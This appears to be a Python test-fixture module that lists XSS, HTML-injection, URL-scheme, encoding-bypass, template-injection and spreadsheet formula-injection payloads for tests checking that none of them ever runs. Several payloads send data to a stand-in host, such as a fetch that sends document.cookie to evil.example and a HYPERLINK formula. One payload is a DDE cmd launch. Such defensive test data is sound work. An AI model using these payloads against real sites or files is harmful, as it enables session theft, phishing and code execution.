"""Words an attacker may write: each is shown somewhere as words, and none of them may ever run.

All of our own making. What runs sets ``window.ran``, opens a dialog or asks for an address of
``evil.example``: the tests look for all three. ``FORMULAS`` are for exports.
"""

from __future__ import annotations

from itertools import product

__all__ = ["FORMULAS", "PAYLOADS"]

_RUN = "window.ran=1"
_EVIL = "https://evil.example"

_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script/x>",
    f"<script src={_EVIL}/a.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<script type=module src={_EVIL}/m.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<!--<script>{_RUN}</script>-->",
    "<script>alert(document.cookie)</script>",
    f"<script>fetch('{_EVIL}/'+document.cookie)</script>",
    f"<script nonce>{_RUN}</script>",
    f"\u202e<script>{_RUN}</script>",
    f"\x00<script>{_RUN}</script>",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "b",
    "marquee",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "onstart",
)
_HANDLERS = tuple(f"<{tag} {event}={_RUN}>" for tag, event in product(_TAGS, _EVENTS))
_ATTRIBUTES = tuple(
    f"{quote}{gap}{rest}"
    for quote, gap in (('"', " "), ("'", " "), ('">', ""), ("'>", ""), ("`", " "))
    for rest in (
        f"onmouseover={_RUN} x=",
        f"autofocus onfocus={_RUN} x=",
        f"style=animation-name:x onanimationstart={_RUN} ",
        f"<img src=x onerror={_RUN}>",
        f"formaction=javascript:{_RUN} ",
    )
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript://host/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={_RUN}>",
    f"vbscript:{_RUN}",
    f"view-source:javascript:{_RUN}",
    f"blob:{_EVIL}/x",
    f"filesystem:{_EVIL}/x",
    f"//{_EVIL[8:]}/x",
    f"/\\{_EVIL[8:]}/x",
    f'https://ok.example/"onmouseover={_RUN} x="',
    f"https://ok.example/'><script>{_RUN}</script>",
    f"https://ok.example/#javascript:{_RUN}",
    f"http:javascript:{_RUN}",
    f"https://user:pw@{_EVIL[8:]}\u202e/moc.ko",
    f"mailto:a@b?body=<script>{_RUN}</script>",
)
_DRAWINGS = (
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href={_EVIL}/a.js></script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x>",
    f"<svg><a href=javascript:{_RUN}><text y=20>duck</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={_RUN}>></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></foreignObject></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style>",
    f"<svg><image href={_EVIL}/pixel.png>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<math href=javascript:{_RUN}>duck</math>",
    f"<math><mglyph><style><!--</style><img src=x onerror={_RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><script>{_RUN}</script></template>",
    f"<select><style></select><img src=x onerror={_RUN}></style></select>",
)
_FRAMES = (
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src={_EVIL}></iframe>",
    f"<object data={_EVIL}/x.swf></object>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src={_EVIL}/x>",
    f"<embed src=javascript:{_RUN}>",
    f"<base href={_EVIL}/>",
    f"<link rel=stylesheet href={_EVIL}/x.css>",
    f"<link rel=prefetch href={_EVIL}/p>",
    f"<link rel=modulepreload href={_EVIL}/m.js>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<meta http-equiv=refresh content='0;javascript:{_RUN}'>",
    f"<form action={_EVIL}><input name=token><button>Sign in</button></form>",
    f"<form id=f></form><button form=f formaction=javascript:{_RUN}>OK</button>",
    f"<img src={_EVIL}/pixel.png>",
    f"<img srcset='{_EVIL}/p.png 2x'>",
    f"<style>@import '{_EVIL}/x.css';</style>",
    f"<style>body{{background:url({_EVIL}/b.png)}}</style>",
    f'<p style="background:url({_EVIL}/b.png)">',
    '<p style="position:fixed;inset:0">covers all</p>',
    f"<portal src={_EVIL}></portal>",
    f"<audio src={_EVIL}/a.mp3 autoplay>",
    f"<video poster=javascript:{_RUN}><source onerror={_RUN}></video>",
    "<dialog open>gone</dialog></main></body></html>",
)
_ENCODED = (
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;window.ran=1",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.ran=1&#x3e;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "%253Cscript%253Ewindow.ran=1",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.ran=1",
    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "\u2039script\u203awindow.ran=1",
    "<\u0000img src=x onerror=window.ran=1>",
    "<img\u000csrc=x\u000conerror=window.ran=1>",
    "<img/src=x/onerror=window.ran=1>",
    '<a href="&#1;javascript:window.ran=1">x</a>',
    "\u2028<script>window.ran=1</script>\u2029",
    "\ufeff<script>window.ran=1</script>",
    "\u202e>tpircs<\u202c",
)
_TEMPLATES = (
    "{{ 7331 * 3 }}",
    "{% raw %}{{ 7331 * 3 }}{% endraw %}",
    "{{ config }}{{ self.__init__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{%- for x in request -%}{{ x }}{%- endfor -%}",
    "{# hidden #}{{ visitor.csrf }}",
    "${7331*3}",
    "#{7331*3}",
    "<%= 7331*3 %>",
    "@(7331*3)",
    "[[${7331*3}]]",
    "%(number)s %s %d {0} {name!r}",
    "__proto__",
    "constructor.prototype",
)
#: What spreadsheets run.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"look")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("https://evil.example","//a")',
    "+cmd|' /C calc'!A0",
)
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *_SCRIPTS,
            *_HANDLERS,
            *_ATTRIBUTES,
            *_ADDRESSES,
            *_DRAWINGS,
            *_FRAMES,
            *_ENCODED,
            *_TEMPLATES,
            *FORMULAS,
        )
    )
)
